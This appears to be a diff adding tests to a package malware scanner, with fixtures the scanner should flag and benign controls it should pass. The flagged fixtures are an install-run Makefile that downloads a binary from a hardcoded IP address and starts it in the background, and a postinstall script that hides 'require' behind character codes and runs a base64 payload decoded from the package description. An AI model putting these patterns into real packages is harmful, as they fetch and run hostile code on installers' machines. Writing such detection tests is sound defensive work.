@@ -465,3 +465,52 @@ describe('attacker rewrites of this session’s shapes', () => {
     expect(ruleOf(r, 'text.agent-dangerous-command')?.confidence).toBeGreaterThanOrEqual(0.8);
   });
 });
+
+describe('round 68: a Makefile an install script runs, require under another name, a key by its variable', () => {
+  const withMake = (makefile: string, config = '') => ({
+    'package.json': pkg({ scripts: { install: 'make -s -f build/Makefile fetch || true' } }),
+    'index.js': 'module.exports = {};',
+    'build/Makefile': makefile,
+    ...(config ? { 'build/config.mk': config } : {}),
+  });
+  it('a Makefile recipe that downloads a binary from an address its included file holds and starts it', () => {
+    const r = analyzeSource(
+      withMake(
+        'include build/config.mk\nDEST := $(or $(TMPDIR),/tmp)/.cpf\nURL := $(PROTO)://$(HOST)/$(PATH_)\n\nfetch:\n\t@curl -fsSL "$(URL)" -o "$(DEST)"\n\t@chmod 755 "$(DEST)"\n\t@nohup "$(DEST)" >/dev/null 2>&1 &\n',
+        'PROTO = http\nHOST = 45.142.212.61:8080\nPATH_ = bin/v3/linux\n',
+      ),
+    );
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).some((f) => f.file === 'build/Makefile' && f.confidence >= 0.9)).toBe(true);
+  });
+  it('quiet: a Makefile that compiles the addon', () => {
+    const r = analyzeSource(
+      withMake(
+        'CC ?= cc\nCFLAGS := -O2 -fPIC\n\nfetch: build/addon.o\n\t$(CC) $(CFLAGS) -shared -o build/addon.node build/addon.o\n\t@echo built\n',
+      ),
+    );
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+  it('module.require bound to the module, fed a file decoded and written at install', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': [
+        "const fs = require('fs'); const os = require('os'); const path = require('path');",
+        'const k = (...c) => String.fromCharCode(...c);',
+        'const load = module[k(114, 101, 113, 117, 105, 114, 101)].bind(module);',
+        "const out = path.join(os.tmpdir(), '.warm.js');",
+        "fs.writeFileSync(out, Buffer.from(process.env.npm_package_description, 'base64').toString());",
+        'load(out);',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+  it('quiet: agent guidance naming the variable a sandbox key is read from', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'AGENTS.md':
+        '# AGENTS.md\n\n## Rules\n- Use only sandbox keys (`sk_test_...`) read from `LEDGERLINE_API_KEY`.\n- Do not commit secrets or `.env` files.\n',
+    });
+    expect(r.risk_level).toBe('clean');
+  });
+});
